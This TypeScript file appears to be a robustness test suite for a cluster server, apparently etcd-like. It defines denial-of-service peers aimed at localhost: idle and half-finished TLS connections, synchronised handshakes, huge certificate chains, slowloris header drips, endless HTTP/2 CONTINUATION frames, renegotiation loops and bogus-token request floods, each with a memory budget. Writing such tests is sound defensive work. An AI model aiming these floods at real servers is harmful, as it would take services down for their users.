/** What peers do who want to keep a member busy. Each opens so many connections, and holds on to them until it is ended. */
import http2 from "node:http2";
import net from "node:net";
import { Duplex } from "node:stream";
import tls from "node:tls";
import { chainOf, LARGE_CERTIFICATE } from "./certificates.ts";
import { IDENTITY } from "./member.ts";

export interface Attack {
  readonly name: string;
  /** How many at once in the short run; ten times as many in the full one. */
  readonly count: number;
  /** The most that one may cost the member, in octets. */
  readonly costBytes: number;
  /** One peer; it ends by itself or is destroyed. Resolves when it has done what it can. */
  begin(port: number): Promise<Ended>;
}

interface Ended {
  destroy(): void;
}

const HOST = "127.0.0.1";
const PLENTY = 64 * 1_024;
const TLS12 = { minVersion: "TLSv1.2", maxVersion: "TLSv1.2" } as const;

/** Resolves also when the member does not want it. */
function settled<Socket extends net.Socket>(
  socket: Socket,
  event: "connect" | "secureConnect",
): Promise<Socket> {
  return new Promise((resolve) => {
    socket.on("error", () => resolve(socket));
    socket.once("close", () => resolve(socket));
    socket.once(event, () => resolve(socket));
  });
}

const dial = (port: number) => settled(net.connect(port, HOST), "connect");
const dialSecure = (port: number, options: tls.ConnectionOptions = {}) =>
  settled(tls.connect({ host: HOST, port, ...IDENTITY, ...options }), "secureConnect");

/** The first flight of a real client. */
function helloOf(options: tls.ConnectionOptions = {}): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const server = net.createServer((socket) => {
      socket.on("error", () => {});
      socket.once("data", (hello: Buffer) => {
        resolve(hello);
        socket.destroy();
        server.close();
      });
    });
    server.on("error", reject);
    server.listen(0, HOST, () => {
      const client = tls.connect({
        host: HOST,
        port: (server.address() as net.AddressInfo).port,
        ...options,
      });
      client.on("error", () => {});
    });
  });
}

const hello = await helloOf();

/** What is to be sent by many at the same time, when for a while nobody has joined them. */
const waiting: (() => void)[] = [];
const TOGETHER_AFTER_MS = 500;
let together: NodeJS.Timeout | undefined;

function sendTogether(send: () => void): void {
  waiting.push(send);
  clearTimeout(together);
  together = setTimeout(() => {
    for (const each of waiting.splice(0)) each();
  }, TOGETHER_AFTER_MS);
}

/** Shakes hands, and sends what completes it when others do. Resolves when its hello has been answered. */
async function dialAndHoldBack(port: number, options: tls.ConnectionOptions): Promise<Ended> {
  const socket = await dial(port);
  const held: Buffer[] = [];
  let sent = 0;
  const between = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      if (sent++ === 0) socket.write(chunk);
      else held.push(chunk);
      done();
    },
  });
  socket.on("data", (chunk: Buffer) => between.push(chunk));
  tls.connect({ socket: between, ...IDENTITY, ...options }).on("error", () => {});
  await new Promise((resolve) => {
    socket.once("data", resolve);
    socket.once("close", resolve);
  });
  sendTogether(() => {
    for (const chunk of held) socket.write(chunk);
  });
  return socket;
}

export const ATTACKS: readonly Attack[] = [
  { name: "connections that say nothing", count: 1_000, costBytes: PLENTY, begin: dial },
  {
    name: "half a hello",
    count: 1_000,
    costBytes: PLENTY,
    begin: async (port) => {
      const socket = await dial(port);
      socket.write(hello.subarray(0, hello.length / 2));
      return socket;
    },
  },
  {
    name: "handshakes that are not gone on with",
    count: 500,
    costBytes: 4 * PLENTY,
    begin: async (port) => {
      const socket = await dial(port);
      socket.write(hello);
      return socket;
    },
  },
  {
    name: "handshakes that are all ended at the same time",
    count: 500,
    costBytes: 4 * PLENTY,
    begin: (port) => dialAndHoldBack(port, { ALPNProtocols: ["h2"] }),
  },
  {
    name: "handshakes of TLS 1.2 that are all ended at the same time",
    count: 250,
    costBytes: 4 * PLENTY,
    begin: (port) => dialAndHoldBack(port, { ALPNProtocols: ["h2"], ...TLS12 }),
  },
  {
    name: "connections that do nothing after the handshake",
    count: 500,
    costBytes: 4 * PLENTY,
    begin: (port) => dialSecure(port, { ALPNProtocols: ["h2"] }),
  },
  ...[
    { name: "certificates of a hundred issuers", identity: chainOf(100) },
    { name: "certificates of more issuers than may be shown", identity: chainOf(400) },
    { name: "certificates with thousands of names", identity: LARGE_CERTIFICATE },
  ].map(({ name, identity }) => ({
    name,
    count: 4,
    costBytes: 8 * PLENTY,
    begin: async (port: number) => {
      // Of TLS 1.2, in which the client waits for the server's judgement, and of TLS 1.3, in which it does not.
      const refused = await dialSecure(port, identity.tls12);
      const socket = await dialSecure(port, identity.tls13);
      socket.once("close", () => refused.destroy());
      return socket;
    },
  })),
  {
    name: "headers of HTTP/1.1 that never end",
    count: 100,
    costBytes: 8 * PLENTY,
    begin: async (port) => {
      const socket = await dialSecure(port);
      socket.write("GET /health HTTP/1.1\r\nhost: x\r\n");
      const drip = setInterval(() => socket.write("x: y\r\n"), 20);
      socket.once("close", () => clearInterval(drip));
      return socket;
    },
  },
  {
    name: "header blocks of HTTP/2 that never end",
    count: 20,
    costBytes: 512 * PLENTY,
    begin: async (port) => {
      const socket = await dialSecure(port, { ALPNProtocols: ["h2"] });
      const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
      const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
      const headers = Buffer.from([0, 0, 1, 1, 0, 0, 0, 0, 1, 0x82]);
      // Of CONTINUATION, without an end: a literal field each.
      const field = Buffer.concat([Buffer.from([0x00, 1, 0x78, 0x7f, 0x01]), Buffer.alloc(128, 0x79)]);
      const more = Buffer.concat([Buffer.from([0, 0, field.length, 9, 0, 0, 0, 0, 1]), field]);
      socket.write(Buffer.concat([preface, settings, headers]));
      const drip = setInterval(() => {
        for (let i = 0; i < 50; i++) socket.write(more);
      }, 5);
      socket.once("close", () => clearInterval(drip));
      return socket;
    },
  },
  {
    name: "renegotiation",
    count: 50,
    costBytes: 8 * PLENTY,
    begin: async (port) => {
      const socket = await dialSecure(port, TLS12);
      const again = setInterval(() => {
        if (!socket.destroyed) socket.renegotiate({}, () => {});
      }, 5);
      socket.once("close", () => clearInterval(again));
      return socket;
    },
  },
  {
    name: "tokens that are none, as fast as they go",
    count: 10,
    costBytes: 16 * PLENTY,
    begin: async (port) => {
      const session = http2.connect(`https://${HOST}:${port}`, IDENTITY);
      session.on("error", () => {});
      let n = 0;
      const ask = () => {
        if (session.closed || session.destroyed) return;
        const stream = session.request({
          ":method": "POST",
          ":path": "/etcdserverpb.KV/Range",
          "content-type": "application/grpc",
          te: "trailers",
          token: `${"x".repeat(16)}${++n}.${n}`,
        });
        stream.on("error", () => {});
        stream.on("close", ask);
        stream.resume();
        // A range of the key `k`.
        stream.end(Buffer.from([0, 0, 0, 0, 3, 0x0a, 1, 0x6b]));
      };
      session.once("connect", () => {
        for (let i = 0; i < 10; i++) ask();
      });
      return session;
    },
  },
];
